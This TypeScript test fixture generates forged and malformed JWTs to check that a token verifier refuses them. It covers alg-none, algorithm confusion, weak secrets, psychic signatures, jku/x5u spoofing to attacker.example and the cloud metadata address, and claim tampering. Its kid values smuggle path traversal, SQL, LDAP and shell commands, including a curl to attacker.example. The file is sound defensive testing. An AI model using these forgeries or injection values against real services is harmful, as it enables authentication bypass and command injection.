/**
 * @module A hand-written JWT attack set, one or more tokens per attack class of the shared list
 * (../shared/data/jwt-attack-vectors), built at run time so it never expires and needs no data
 * outside the repository. Every token is a real, correctly encoded forgery or policy violation:
 * where an attack needs a key, the right one is used, so the verifier's policy is what must refuse it.
 */
import { createHmac } from 'node:crypto'
import { CompactSign, exportJWK, generateKeyPair, importJWK, SignJWT, type JWK } from 'jose'
import { decodeBase64url, encodeBase64url } from '../../src/lib/base64'

export const ISSUER = 'https://auth.example.test'
export const AUDIENCE = 'api.example.test'
/** The HS256 secret the "HS policy" verifies with (the role of the shared list's reference key). */
export const HS_SECRET = 'tollgate-local-hs256-reference-key-0123456789'

export type Policy = 'hs256' | 'asymmetric'
export type AttackCase = { readonly id: string; readonly policy: Policy; readonly token: string; readonly expect: 'accept' | 'reject' }

export type Keys = {
  readonly jwks: { keys: JWK[] }
  readonly ed: CryptoKey
  readonly es: CryptoKey
  readonly rs: CryptoKey
  readonly rsPublic: JWK
  readonly esPublic: JWK
  readonly attackerRs: CryptoKey
  readonly attackerRsPublic: JWK
}

const utf8 = new TextEncoder()
const b64 = (o: unknown) => encodeBase64url(typeof o === 'string' ? o : JSON.stringify(o))
const hmac = (alg: 'sha256' | 'sha384' | 'sha512', key: string | Uint8Array, input: string) => encodeBase64url(new Uint8Array(createHmac(alg, key).update(input).digest()))

/** Header and payload JSON as written, signed with HMAC (any key, any alg name). */
function hs(header: object | string, payload: object | string, key: string | Uint8Array, alg: 'sha256' | 'sha384' | 'sha512' = 'sha256'): string {
  const input = `${b64(header)}.${b64(payload)}`
  return `${input}.${hmac(alg, key, input)}`
}

export async function makeKeys(): Promise<Keys> {
  const ed = await generateKeyPair('EdDSA', { extractable: true })
  const es = await generateKeyPair('ES256', { extractable: true })
  const rs = await generateKeyPair('RS256', { extractable: true, modulusLength: 2048 })
  const attacker = await generateKeyPair('RS256', { extractable: true, modulusLength: 2048 })
  const pub = async (k: CryptoKey, kid: string, alg: string) => ({ ...(await exportJWK(k)), kid, alg, use: 'sig' })
  const edPublic = await pub(ed.publicKey, 'ed-1', 'EdDSA')
  const esPublic = await pub(es.publicKey, 'es-1', 'ES256')
  const rsPublic = await pub(rs.publicKey, 'rs-1', 'RS256')
  return { jwks: { keys: [edPublic, esPublic, rsPublic] }, ed: ed.privateKey, es: es.privateKey, rs: rs.privateKey, rsPublic, esPublic, attackerRs: attacker.privateKey, attackerRsPublic: await pub(attacker.publicKey, 'rs-1', 'RS256') }
}

/** Claims that pass Tollgate's policy, `now` in seconds; each case changes one thing. */
export function claims(now: number, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return { iss: ISSUER, aud: AUDIENCE, sub: 'agent-7', iat: now, exp: now + 300, jti: `jti-${now}`, scope: 'products:read', ...extra }
}

export async function attackCases(keys: Keys, now: number): Promise<AttackCase[]> {
  const c = claims(now)
  const admin = claims(now, { role: 'admin', scope: 'products:read users:delete' })
  const hsHeader = { alg: 'HS256', typ: 'JWT' }
  const baseline = hs(hsHeader, c, HS_SECRET)
  const [bh, bp, bs] = baseline.split('.') as [string, string, string]
  const asym = async (alg: 'EdDSA' | 'ES256' | 'RS256', key: CryptoKey, kid: string, header: Record<string, unknown> = {}, payload = c) =>
    new SignJWT(payload).setProtectedHeader({ alg, typ: 'JWT', kid, ...header }).sign(key)
  const esInput = `${b64({ alg: 'ES256', typ: 'JWT', kid: 'es-1' })}.${b64(c)}`
  const der0 = encodeBase64url(new Uint8Array([0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00]))
  // The first signature character carries six data bits (the last one may carry pad bits only).
  const flip = (t: string) => {
    const i = t.lastIndexOf('.') + 1
    return t.slice(0, i) + (t[i] === 'A' ? 'B' : 'A') + t.slice(i + 1)
  }
  // Same bytes, another spelling: a pad bit of the last character set (RFC 4648 §3.5).
  const B64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  const padBit = (t: string) => t.slice(0, -1) + B64[B64.indexOf(t[t.length - 1]!) | 1]
  const H = (id: string, token: string, expect: 'accept' | 'reject' = 'reject'): AttackCase => ({ id, policy: 'hs256', token, expect })
  const A = (id: string, token: string, expect: 'accept' | 'reject' = 'reject'): AttackCase => ({ id, policy: 'asymmetric', token, expect })
  const kids = ['', '../../../../../../../../dev/null', '/dev/null', '/invalid_path', '../../../../../../proc/sys/kernel/randomize_va_space', "x' UNION SELECT '1' -- ", "0 UNION SELECT 'ATTACKER' --", 'key.pem|sleep 10', 'key.pem; curl https://attacker.example/x', '$(id)', '*)(uid=*', 'https://attacker.example/key']
  const spoofs = ['https://attacker.example/.well-known/jwks.json', 'https://auth.example.test.attacker.example/jwks.json', 'https://auth.example.test/redirect?url=https://attacker.example/jwks', 'http://169.254.169.254/latest/meta-data/']

  return [
    // Positive controls: the keys and claims are right, so every refusal below is the policy's.
    H('baseline-valid', baseline, 'accept'),
    H('baseline-valid-admin', hs(hsHeader, admin, HS_SECRET), 'accept'),
    A('baseline-eddsa', await asym('EdDSA', keys.ed, 'ed-1'), 'accept'),
    A('baseline-es256', await asym('ES256', keys.es, 'es-1'), 'accept'),
    A('baseline-rs256', await asym('RS256', keys.rs, 'rs-1'), 'accept'),
    // alg none, in every spelling, with and without a signature segment.
    ...['none', 'None', 'NONE', 'nOnE'].map((alg) => H(`alg-none-${alg}`, `${b64({ alg, typ: 'JWT' })}.${b64(admin)}.`)),
    H('alg-none-with-sig', `${b64({ alg: 'none', typ: 'JWT' })}.${bp}.${bs}`),
    H('null-signature', `${bh}.${bp}.`),
    H('two-segments', `${bh}.${bp}`),
    H('blank-hmac-key', hs(hsHeader, admin, '')),
    ...['secret', 'password', 'your-256-bit-secret', 'changeme', 'jwt_secret'].map((k) => H(`weak-secret-${k}`, hs(hsHeader, admin, k))),
    H('tampered-payload', `${bh}.${b64(admin)}.${bs}`),
    H('broken-signature', flip(baseline)),
    H('non-canonical-signature', padBit(baseline)),
    A('non-canonical-signature-eddsa', padBit(await asym('EdDSA', keys.ed, 'ed-1'))),
    // Algorithm confusion: HMAC keyed with the verifier's own public key (JWK JSON and raw modulus).
    A('alg-confusion-rs256-hs256', hs({ alg: 'HS256', typ: 'JWT', kid: 'rs-1' }, c, JSON.stringify(keys.rsPublic))),
    A('alg-confusion-rs256-hs256-modulus', hs({ alg: 'HS256', typ: 'JWT', kid: 'rs-1' }, c, decodeBase64url(keys.rsPublic.n!))),
    A('alg-confusion-es256-hs256', hs({ alg: 'HS256', typ: 'JWT', kid: 'es-1' }, c, JSON.stringify(keys.esPublic))),
    H('alg-downgrade-hs384', hs({ alg: 'HS384', typ: 'JWT' }, c, HS_SECRET, 'sha384')),
    H('alg-downgrade-hs512', hs({ alg: 'HS512', typ: 'JWT' }, c, HS_SECRET, 'sha512')),
    // The verifier's own RSA key, used with an algorithm it does not allow for that key.
    A('alg-downgrade-ps256', await new SignJWT(c).setProtectedHeader({ alg: 'PS256', kid: 'rs-1' }).sign(await importJWK(await exportJWK(keys.rs), 'PS256'))),
    // The token chooses its own key.
    H('embedded-jwk-oct', hs({ ...hsHeader, jwk: { kty: 'oct', k: encodeBase64url('attacker-key') } }, admin, 'attacker-key')),
    A('embedded-jwk-rsa', await asym('RS256', keys.attackerRs, 'rs-1', { jwk: keys.attackerRsPublic }, admin)),
    ...spoofs.map((url, i) => H(`jku-spoof-${i}`, hs({ ...hsHeader, jku: url }, admin, HS_SECRET))),
    H('x5u-spoof', hs({ ...hsHeader, x5u: 'https://attacker.example/cert.pem' }, admin, HS_SECRET)),
    H('x5c-self-signed', hs({ ...hsHeader, x5c: ['MIIBszCCAVmgAwIBAgIUQ2F0dGFja2VyLXNlbGYtc2lnbmVk'] }, admin, HS_SECRET)),
    // kid injection: traversal, SQL, shell, LDAP, URL; signed with the right key, so only the kid is wrong.
    ...kids.map((kid, i) => H(`kid-injection-${i}`, hs({ ...hsHeader, kid }, c, HS_SECRET))),
    A('kid-injection-asymmetric', await asym('EdDSA', keys.ed, '../ed-1')),
    // Psychic signatures (CVE-2022-21449): r = s = 0.
    A('psychic-signature-p1363', `${esInput}.${encodeBase64url(new Uint8Array(64))}`),
    A('psychic-signature-der', `${esInput}.${der0}`),
    A('psychic-signature-es384', `${b64({ alg: 'ES384', kid: 'es-1' })}.${b64(c)}.${encodeBase64url(new Uint8Array(96))}`),
    // Claims, correctly signed: each breaks one rule.
    H('claims-expired', hs(hsHeader, claims(now - 1000, { exp: now - 600 }), HS_SECRET)),
    H('claims-nbf-future', hs(hsHeader, claims(now, { nbf: now + 3600 }), HS_SECRET)),
    H('claims-iat-future', hs(hsHeader, claims(now, { iat: now + 3600, exp: now + 3900 }), HS_SECRET)),
    H('claims-no-exp', hs(hsHeader, claims(now, { exp: undefined }), HS_SECRET)),
    H('claims-exp-string', hs(hsHeader, claims(now, { exp: String(now + 300) }), HS_SECRET)),
    H('claims-exp-huge', hs(hsHeader, claims(now, { exp: 99_999_999_999 }), HS_SECRET)),
    H('claims-wrong-aud', hs(hsHeader, claims(now, { aud: 'other.example.test' }), HS_SECRET)),
    H('claims-aud-array-confusion', hs(hsHeader, claims(now, { aud: ['api.example.test ', 'api.example.test.evil'] }), HS_SECRET)),
    H('claims-wrong-iss', hs(hsHeader, claims(now, { iss: 'https://evil.example' }), HS_SECRET)),
    H('claims-scope-type-confusion', hs(hsHeader, claims(now, { scope: ['products:read', 'users:delete'] }), HS_SECRET)),
    H('claims-scope-and-scopes', hs(hsHeader, claims(now, { scopes: ['users:delete'] }), HS_SECRET)),
    H('claims-no-jti', hs(hsHeader, claims(now, { jti: undefined }), HS_SECRET)),
    H('claims-sub-traversal', hs(hsHeader, claims(now, { sub: '../../admin' }), HS_SECRET)),
    H('duplicate-claims', hs(hsHeader, JSON.stringify(c).replace('"scope":"products:read"', '"scope":"products:read","scope":"users:delete"'), HS_SECRET)),
    H('duplicate-claims-escaped', hs(hsHeader, JSON.stringify(c).replace('"sub":"agent-7"', '"sub":"agent-7","s\\u0075b":"agent-admin"'), HS_SECRET)),
    // Header parameters that change what is signed or how the token is read.
    H('crit-unknown', hs({ ...hsHeader, crit: ['exp-ext'], 'exp-ext': true }, c, HS_SECRET)),
    H('b64-false', hs({ ...hsHeader, b64: false, crit: ['b64'] }, c, HS_SECRET)),
    H('nested-cty-jwt', hs({ ...hsHeader, cty: 'JWT' }, c, HS_SECRET)),
    // Encoding and framing.
    H('padding-chars', baseline.split('.').map((p) => `${p}==`).join('.')),
    H('std-base64-alphabet', `${btoa(JSON.stringify({ alg: 'HS256', typ: 'JWT', kid: 'a?>' }))}.${bp}.${bs}`),
    H('four-segments', `${baseline}.AAAA`),
    H('jwe-where-jws-expected', `${b64({ alg: 'dir', enc: 'A128GCM' })}..${encodeBase64url(utf8.encode('iv-iv-iv-iv'))}.${encodeBase64url(utf8.encode('ciphertext'))}.${encodeBase64url(utf8.encode('tag'))}`),
    H('oversized', hs(hsHeader, claims(now, { pad: 'x'.repeat(20_000) }), HS_SECRET)),
    H('whitespace-in-token', `${bh}.${bp.slice(0, 10)}\n${bp.slice(10)}.${bs}`),
    H('header-not-json', hs('not json at all', c, HS_SECRET)),
    H('header-array', hs([hsHeader], c, HS_SECRET)),
    H('payload-not-utf8', `${bh}.${encodeBase64url(new Uint8Array([0x7b, 0xff, 0x7d]))}.${bs}`),
    A('compact-sign-no-typ-wrong-kid', await new CompactSign(utf8.encode(JSON.stringify(c))).setProtectedHeader({ alg: 'EdDSA', kid: 'es-1' }).sign(keys.ed)),
  ]
}

/**
 * Where each id of the shared list is covered: the local case(s) above, or, for the entries that
 * are not a single token, the test that covers the behaviour. A new shared id without an entry
 * fails the suite, so the local set keeps up with the list.
 */
export const SHARED_COVERAGE: Readonly<Record<string, string>> = {
  'baseline-valid': 'baseline-valid',
  'baseline-valid-admin': 'baseline-valid-admin',
  'alg-none-none': 'alg-none-none',
  'alg-none-None': 'alg-none-None',
  'alg-none-NONE': 'alg-none-NONE',
  'alg-none-nOnE': 'alg-none-nOnE',
  'alg-none-with-sig': 'alg-none-with-sig',
  'null-signature': 'null-signature',
  'two-segments': 'two-segments',
  'blank-hmac-key': 'blank-hmac-key',
  'weak-secret-secret': 'weak-secret-secret',
  'weak-secret-password': 'weak-secret-password',
  'weak-secret-your-256-bit-secret': 'weak-secret-your-256-bit-secret',
  'weak-secret-changeme': 'weak-secret-changeme',
  'weak-secret-jwt_secret': 'weak-secret-jwt_secret',
  'tampered-payload': 'tampered-payload',
  'broken-signature': 'broken-signature',
  'alg-confusion-rs256-hs256': 'alg-confusion-rs256-hs256',
  'alg-confusion-es256-hs256': 'alg-confusion-es256-hs256',
  'alg-downgrade-rs-to-ps-or-hs384': 'alg-downgrade-hs384',
  'embedded-jwk-oct': 'embedded-jwk-oct',
  'embedded-jwk-rsa': 'embedded-jwk-rsa',
  'jku-spoof-attacker-22': 'jku-spoof-0',
  'jku-spoof-auth-23': 'jku-spoof-1',
  'jku-spoof-auth-24': 'jku-spoof-2',
  'x5u-spoof-attacker-25': 'x5u-spoof',
  'jku-spoof-169-26': 'jku-spoof-3',
  'x5c-self-signed': 'x5c-self-signed',
  'kid-blank': 'kid-injection-0',
  'kid-path-traversal-devnull': 'kid-injection-1',
  'kid-devnull': 'kid-injection-2',
  'kid-invalid-path': 'kid-injection-3',
  'kid-static-file': 'kid-injection-4',
  'kid-sqli': 'kid-injection-5',
  'kid-sqli-2': 'kid-injection-6',
  'kid-cmd-sleep': 'kid-injection-7',
  'kid-cmd-curl': 'kid-injection-8',
  'kid-cmd-subshell': 'kid-injection-9',
  'kid-ldap': 'kid-injection-10',
  'kid-url': 'kid-injection-11',
  'psychic-signature-p1363': 'psychic-signature-p1363',
  'psychic-signature-der': 'psychic-signature-der',
  'psychic-signature-es384': 'psychic-signature-es384',
  'claims-expired': 'claims-expired',
  'claims-nbf-future': 'claims-nbf-future',
  'claims-iat-future': 'claims-iat-future',
  'claims-no-exp': 'claims-no-exp',
  'claims-exp-string': 'claims-exp-string',
  'claims-exp-huge': 'claims-exp-huge',
  'claims-wrong-aud': 'claims-wrong-aud',
  'claims-aud-array-confusion': 'claims-aud-array-confusion',
  'claims-wrong-iss': 'claims-wrong-iss',
  'claims-role-array': 'claims-scope-type-confusion',
  'duplicate-claims': 'duplicate-claims',
  'crit-unknown': 'crit-unknown',
  'b64-false': 'b64-false',
  'nested-cty-jwt': 'nested-cty-jwt',
  'padding-chars': 'padding-chars',
  'std-base64-alphabet': 'std-base64-alphabet',
  'four-segments': 'four-segments',
  'jwe-where-jws-expected': 'jwe-where-jws-expected',
  oversized: 'oversized',
  'whitespace-in-token': 'whitespace-in-token',
  'header-not-json': 'header-not-json',
  'signature-disclosure-in-error': 'test/workers/edge/denial-contract.test.ts (bad signature: body holds only the problem members, no token)',
  'replay-jti': 'not a token case: tokens are bearer tokens until exp; a revoked jti is refused (test/workers/admin/admin-http.test.ts)',
  'header-and-cookie-conflict': 'test/workers/edge/rfc6750.security.test.ts (two Authorization values, header plus query or body)',
}
